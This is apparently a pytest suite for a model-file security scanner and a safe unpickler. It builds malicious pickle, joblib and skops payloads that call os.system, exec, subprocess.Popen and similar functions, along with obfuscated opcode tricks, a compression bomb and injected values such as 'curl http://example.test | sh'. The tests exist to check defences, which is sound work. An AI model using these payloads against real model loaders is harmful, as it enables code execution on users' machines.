"""Files that do harm when they are opened: none passes the scan, none gets past the unpickler alone, no canary is ever made."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import pytest

from mlship.server.pickle_load import load, read
from mlship.server.pickle_machine import Found, Instance, Machine, Mapping
from mlship.server.pickle_scan import Refused, allow, scan


class Evil:
    """Its pickle makes the canary file through any callable."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.reduced = (func, args)

    def __reduce__(self) -> Any:
        return self.reduced


def evil(canary: Path) -> Evil:
    return Evil(open, str(canary), "w")


def short(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


def call(module: str, name: str, *args: str) -> bytes:
    """module.name(*args) in protocol 4."""
    return b"\x80\x04" + short(module) + short(name) + b"\x93(" + b"".join(short(arg) for arg in args) + b"tR."


def refused(path: Path, canary: Path, match: str | None = None) -> Refused:
    """The scan, the loader and the unpickler alone all refuse; returns what the scan says."""
    with pytest.raises(Refused, match=match) as caught:
        allow(scan(path))
    with pytest.raises(Refused):
        load(path)
    assert not canary.exists()
    return caught.value


def unpickler_refuses(content: bytes, canary: Path) -> None:
    with pytest.raises(
        (Refused, pickle.UnpicklingError, EOFError, ValueError, AttributeError, TypeError, IndexError, KeyError)
    ):
        read(io.BufferedReader(io.BytesIO(content)))
    assert not canary.exists()


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    return tmp_path / "canary"


WRAPPINGS: dict[str, Callable[[bytes], bytes]] = {
    "raw": lambda content: content,
    "zlib": zlib.compress,
    "gzip": gzip.compress,
    "bz2": bz2.compress,
    "xz": lzma.compress,
    "lzma": lambda content: lzma.compress(content, format=lzma.FORMAT_ALONE),
    "zlib in zlib": lambda content: zlib.compress(zlib.compress(content)),
    "gzip in xz": lambda content: lzma.compress(gzip.compress(content)),
    "gzip of several members": lambda content: gzip.compress(content[:10]) + gzip.compress(content[10:]),
    "trailing bytes": lambda content: content + b"\0" * 8,
    "cut off": lambda content: content[:-3],
    "zlib cut off": lambda content: zlib.compress(content)[:-6],
    "zlib with a tail": lambda content: zlib.compress(content) + b"tail",
}


@pytest.mark.parametrize("wrapping", WRAPPINGS)
@pytest.mark.parametrize("name", ["model.joblib", "model.txt"])
def test_a_program_starter_is_refused_however_it_is_wrapped_and_named(
    tmp_path: Path, canary: Path, wrapping: str, name: str
) -> None:
    path = tmp_path / name
    path.write_bytes(WRAPPINGS[wrapping](pickle.dumps(evil(canary))))
    refused(path, canary)


@pytest.mark.parametrize("protocol", range(6))
def test_a_program_starter_is_refused_in_every_protocol_and_called_what_it_is(
    tmp_path: Path, canary: Path, protocol: int
) -> None:
    content = pickle.dumps(evil(canary), protocol)
    path = tmp_path / "model.pkl"
    path.write_bytes(content)
    said = refused(path, canary, "can run programs or open files when it is loaded")
    assert said.kind == "dangerous-name" and "do not use this file" in said.fix
    unpickler_refuses(content, canary)


@pytest.mark.parametrize("compress", [0, 3, ("gzip", 3), ("bz2", 3), ("xz", 3), ("lzma", 3)])
def test_a_program_starter_inside_an_array_of_objects_is_refused(tmp_path: Path, canary: Path, compress: Any) -> None:
    path = tmp_path / "model.joblib"
    joblib.dump({"a": np.arange(5), "b": np.array([evil(canary), None], dtype=object)}, path, compress=compress)
    refused(path, canary)
    if compress == 0:
        unpickler_refuses(path.read_bytes(), canary)


def test_a_second_pickle_in_the_file_is_read_too(tmp_path: Path, canary: Path) -> None:
    path = tmp_path / "model.pkl"
    path.write_bytes(pickle.dumps([1]) + pickle.dumps(evil(canary)))
    refused(path, canary)


NAMES = {
    "os.system": ("os", "system"),
    "posix.system": ("posix", "system"),
    "Python 2's eval": ("__builtin__", "eval"),
    "exec": ("builtins", "exec"),
    "import": ("builtins", "__import__"),
    "numpy's test runner": ("numpy.testing._private.utils", "runstring"),
    "numpy.load": ("numpy", "load"),
    "joblib.load": ("joblib", "load"),
    "joblib's compatibility loader": ("joblib.numpy_pickle_compat", "load_compatibility"),
    "old array wrapper": ("joblib.numpy_pickle_compat", "NDArrayWrapper"),
    "old compressed array wrapper": ("joblib.numpy_pickle_compat", "ZNDArrayWrapper"),
    "pandas.read_pickle": ("pandas", "read_pickle"),
    "pandas.eval": ("pandas", "eval"),
    "a data set fetcher": ("sklearn.datasets", "fetch_openml"),
    "an attribute path out of an allowed module": ("sklearn.utils", "os.system"),
    "an attribute path out of an allowed class": ("sklearn.utils._bunch", "Bunch.__init__.__globals__"),
    "a module of an allowed module": ("sklearn.tree._classes", "np.load"),
    "a method of an allowed class": ("sklearn.pipeline", "Pipeline.fit"),
    "a prefix of an allowed module": ("sklearn", "base.os.system"),
    "functions by name": ("operator", "methodcaller"),
    "code objects": ("types", "CodeType"),
    "named tuples, which run exec": ("collections", "namedtuple"),
    "mlship itself": ("mlship.server.pickle_load", "_import"),
    "delayed imports": ("importlib", "import_module"),
    "ctypes": ("ctypes", "CDLL"),
    "a slow search": ("timeit", "timeit"),
}


@pytest.mark.parametrize("case", NAMES)
def test_a_name_that_is_not_exactly_known_is_refused(tmp_path: Path, canary: Path, case: str) -> None:
    content = call(*NAMES[case], f"touch {canary}")
    path = tmp_path / "model.pkl"
    path.write_bytes(content)
    refused(path, canary)
    unpickler_refuses(content, canary)


INDIRECT = {
    "names from the memo": b"\x80\x04" + short("os") + b"\x94" + short("system") + b"\x940h\x00h\x01\x93(" + short("CMD") + b"tR.",
    "names copied on the stack": b"\x80\x04" + short("os") + b"2" + b"0" + short("system") + b"\x93(" + short("CMD") + b"tR.",
    "a name out of a dict": b"\x80\x04}" + short("k") + short("os") + b"s0" + short("os") + short("system") + b"\x93)R.",
    "a name that is computed": b"\x80\x04cbuiltins\nstr\n(" + short("os") + b"tR" + short("system") + b"\x93(" + short("CMD") + b"tR.",
    "a name in a tuple": b"\x80\x04" + short("os") + b"\x85" + short("system") + b"\x93.",
    "a name to be pasted": b"\x80\x04" + short("acme; curl http://example.test | sh") + short("X") + b"\x93)\x81.",
    "a name with lines of its own": b"\x80\x04" + short("acme") + short("X\nok") + b"\x93)\x81.",
    "a name without end": b"\x80\x04" + short("acme") + b"X\xe8\x03\0\0" + b"x" * 1000 + b"\x93)\x81.",
    "INST": b"(S'CMD'\nios\nsystem\n.",
    "INST without text": b"(Vx\nios\nsystem\n.",
    "OBJ": b"(cos\nsystem\nVx\no.",
    "EXT1": b"\x80\x02\x82\x01.",
    "EXT2": b"\x80\x02\x83\x01\x00.",
    "EXT4": b"\x80\x02\x84\x01\x00\x00\x00.",
    "persistent id as text": b"Pos.system\n.",
    "persistent id": b"\x80\x02Vx\nQ.",
    "out-of-band buffers": b"\x80\x05\x97.",
    "NEWOBJ of a function": b"\x80\x02cos\nsystem\n(Vx\nt\x81.",
    "getattr of a class": b"cbuiltins\ngetattr\n(csklearn.pipeline\nPipeline\nVfit\ntR.",
    "getattr of an instance": b"cbuiltins\ngetattr\n(cbuiltins\nstr\n(Vx\ntRV__class__\ntR.",
    "getattr of a value": b"cbuiltins\ngetattr\n(Vx\nVformat\ntR.",
    "format strings": b"cbuiltins\ngetattr\n(cbuiltins\nstr\nVformat\ntR.",
    "numpy's ufunc finder": b"cnumpy.core\n_ufunc_reconstruct\n(Vos\nVsystem\ntR(VCMD\ntR.",
    "numpy's ufunc finder in numpy 2": b"cnumpy._core\n_ufunc_reconstruct\n(Vos\nVsystem\ntR(VCMD\ntR.",
    "a codec that imports": b"c_codecs\nencode\n(Vx\nVrot13\ntR(VCMD\ntR.",
    "a call of what was called": b"\x80\x02cfunctools\npartial\n(cbuiltins\nstr\ntR(Vx\ntR.",
    "a class that is changed": b"\x80\x02csklearn.pipeline\nPipeline\n}Vpredict\ncbuiltins\nstr\nsb.",
    "a foreign buffer as an array": b"\x80\x02cnumpy\nndarray\n((I1\ntVO\ntR.",
    "a file mapped into memory": b"\x80\x02cnumpy\nmemmap\n(VCMD\nVu1\nI0\nVw+\ntR.",
    "a huge memo index": b"\x80\x02Nr\xff\xff\xff\x7f.",
    "a pickle of nothing": b"\x80\x04.",
    "a mark that is missing": b"\x80\x04t.",
    "an unknown instruction": b"\x80\x04\xff.",
    "a protocol of the future": b"\x80\x06N.",
    "a number of a thousand digits": b"\x80\x02\x8b\x00\x00\x01\x00" + b"\1" * 65536 + b".",
    "a frame in a frame": b"\x80\x04\x95\x20\0\0\0\0\0\0\0\x95\x01\0\0\0\0\0\0\0N.",
}  # fmt: skip


@pytest.mark.parametrize("case", INDIRECT)
def test_a_name_or_call_that_hides_is_refused(tmp_path: Path, canary: Path, case: str) -> None:
    path = tmp_path / "model.pkl"
    path.write_bytes(INDIRECT[case])
    refused(path, canary)


def test_scipys_distributions_which_run_their_own_text_are_loaded_as_inert_objects(tmp_path: Path, canary: Path) -> None:
    state = {"_parse_arg_template": f"open({str(canary)!r}, 'w')", "shapes": "", "badvalue": None}
    content = b"\x80\x02cscipy.stats._continuous_distns\nuniform_gen\n)\x81" + pickle.dumps(state, 2)[2:-1] + b"b."
    path = tmp_path / "model.pkl"
    path.write_bytes(content)
    loaded, _ = load(path)
    assert type(loaded).__name__ == "uniform_gen" and not hasattr(loaded, "rvs")
    assert not canary.exists()


def test_a_dtype_that_calls_plain_bytes_objects_is_refused(tmp_path: Path, canary: Path) -> None:
    state = b"(I3\nV<\nNNNI-1\nI-1\nI63\ntb"
    path = tmp_path / "model.pkl"
    path.write_bytes(b"\x80\x02cnumpy\ndtype\n(Vi8\nI00\nI01\ntR" + state + b".")
    refused(path, canary, "says that it holds objects")


def test_a_dtype_that_changes_between_two_arrays_is_looked_at_again() -> None:
    def dtype(code: str, fields: Any = None, width: int = -1, flags: int = 0) -> Instance:
        made = Instance(("numpy", "dtype"), (code, False, True))
        made.state = (3, "|", None, None, fields, width, -1, flags)
        return made

    machine, fields = Machine(io.BufferedReader(io.BytesIO()), Found(), arrays=True), Mapping()
    fields.put("a", (dtype("i8"), 0))
    record = dtype("V8", fields, 8)
    assert machine.element_of(record) == (8, False)
    machine.stack = [fields, "a", (dtype("O8"), 0)]
    machine.set_item()
    assert machine.element_of(record) == (8, True)
    machine.stack = [record, dtype("V8", None, 8).state]
    machine.build()
    assert machine.element_of(record) == (8, False)


def test_a_joblib_array_that_hides_instructions_behind_a_false_shape_is_refused(tmp_path: Path, canary: Path) -> None:
    """The scan steps over exactly the bytes that the loader reads: a longer shape cuts the file off, a shorter one shows the rest."""
    path = tmp_path / "model.joblib"
    joblib.dump([np.zeros(64), evil(canary)], path)
    content = path.read_bytes()
    for count in (8, 63, 65, 120):
        path.write_bytes(content.replace(b"K\x40\x85", b"K" + bytes([count]) + b"\x85"))
        refused(path, canary)


def test_a_joblib_array_with_a_negative_or_huge_shape_is_refused(tmp_path: Path, canary: Path) -> None:
    path = tmp_path / "model.joblib"
    joblib.dump(np.zeros(64), path)
    content = path.read_bytes()
    for shape in (b"J\xff\xff\xff\xff\x85", b"J\xff\xff\xff\x7f\x85", b"\x8a\x09" + b"\xff" * 8 + b"\x00\x85"):
        longer = content.replace(b"K\x40\x85", shape)
        start = longer.index(b"\x95") + 1
        size = struct.unpack_from("<Q", longer, start)[0] + len(shape) - 3
        path.write_bytes(longer[:start] + struct.pack("<Q", size) + longer[start + 8 :])
        refused(path, canary)


def test_a_compression_bomb_ends_in_one_sentence(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from mlship.server import pickle_open

    monkeypatch.setattr(pickle_open, "BOMB_BYTES", 2**20)
    path = tmp_path / "model.joblib"
    path.write_bytes(zlib.compress(b"\x80\x04\x8e" + (2**24).to_bytes(8, "little") + b"\0" * 2**24 + b"."))
    with pytest.raises(Refused, match=r"the file of \d+ bytes unpacks to more than \d+ MiB"):
        scan(path)


@pytest.mark.parametrize(
    ("magic", "name"),
    [(b"\x04\x22\x4d\x18", "lz4"), (b"\x28\xb5\x2f\xfd", "zstd"), (b"ZF0x", "joblib before 0.10")],
)
def test_compressions_that_cannot_be_read_are_named(tmp_path: Path, magic: bytes, name: str) -> None:
    path = tmp_path / "model.joblib"
    path.write_bytes(magic + b"\0" * 40)
    with pytest.raises(Refused, match=name):
        scan(path)


def test_an_empty_file_is_refused(tmp_path: Path) -> None:
    (tmp_path / "model.pkl").touch()
    with pytest.raises(Refused, match="the file is empty"):
        scan(tmp_path / "model.pkl")


def skops_file(path: Path, schema: Any, **members: bytes) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("schema.json", schema if isinstance(schema, str) else json.dumps(schema))
        for name, content in members.items():
            archive.writestr(name.replace("__", "."), content)
    return path


def node(loader: str, module: str, name: str, content: Any = None) -> dict[str, Any]:
    return {"__class__": name, "__module__": module, "__loader__": loader, "content": content, "protocol": 2}


SKOPS = {
    "a type": node("TypeNode", "os", "system"),
    "an object": node("ObjectNode", "subprocess", "Popen"),
    "a method": node("MethodNode", "builtins", "str", {"func": "format", "obj": {}}),
    "an operator": node("OperatorFuncNode", "operator", "methodcaller"),
    "an unknown loader": node("EvilNode", "builtins", "str"),
    "a function of old": node("FunctionNode", "builtins", "function", {"module_path": "os", "function": "system"}),
    "a constructor": node("ConstructorFromReduceNode", "numpy", "ndarray", []),
    "a distribution": node("ObjectNode", "scipy.stats._continuous_distns", "uniform_gen"),
    "deep inside": node("ListNode", "builtins", "list", [[{"a": node("TypeNode", "builtins", "eval")}]]),
    "a name to be pasted": node("TypeNode", "acme; curl http://example.test | sh", "X"),
    "a list": [],
    "no JSON": "{",
    "bottomless": "[" * 100_000,
}


@pytest.mark.parametrize("case", SKOPS)
def test_a_skops_file_is_read_by_exact_names_too(tmp_path: Path, canary: Path, case: str) -> None:
    refused(skops_file(tmp_path / "model.skops", SKOPS[case]), canary)


@pytest.mark.parametrize(
    ("member", "content"),
    [
        ("x__npy", pickle.dumps([1])),
        ("x__npy", b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"),
        ("x__pkl", pickle.dumps([1])),
        ("inner__zip", b"PK\x03\x04"),
    ],
)
def test_a_skops_member_that_could_be_a_pickle_is_refused(tmp_path: Path, canary: Path, member: str, content: bytes) -> None:
    schema = node("ListNode", "builtins", "list", [])
    refused(skops_file(tmp_path / "model.skops", schema, **{member: content}), canary, "is no array")


def test_a_zip_archive_that_is_not_skops_is_refused(tmp_path: Path, canary: Path) -> None:
    path = tmp_path / "model.pkl"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("model.pkl", pickle.dumps(evil(canary)))
    refused(path, canary, "zip archive with model.pkl, not a skops model")


def test_an_archive_behind_a_pickle_is_read_as_the_pickle_that_would_be_loaded(tmp_path: Path, canary: Path) -> None:
    archive = skops_file(tmp_path / "a", node("ListNode", "builtins", "list", [])).read_bytes()
    path = tmp_path / "model.skops"
    path.write_bytes(pickle.dumps(evil(canary)) + archive)
    refused(path, canary)
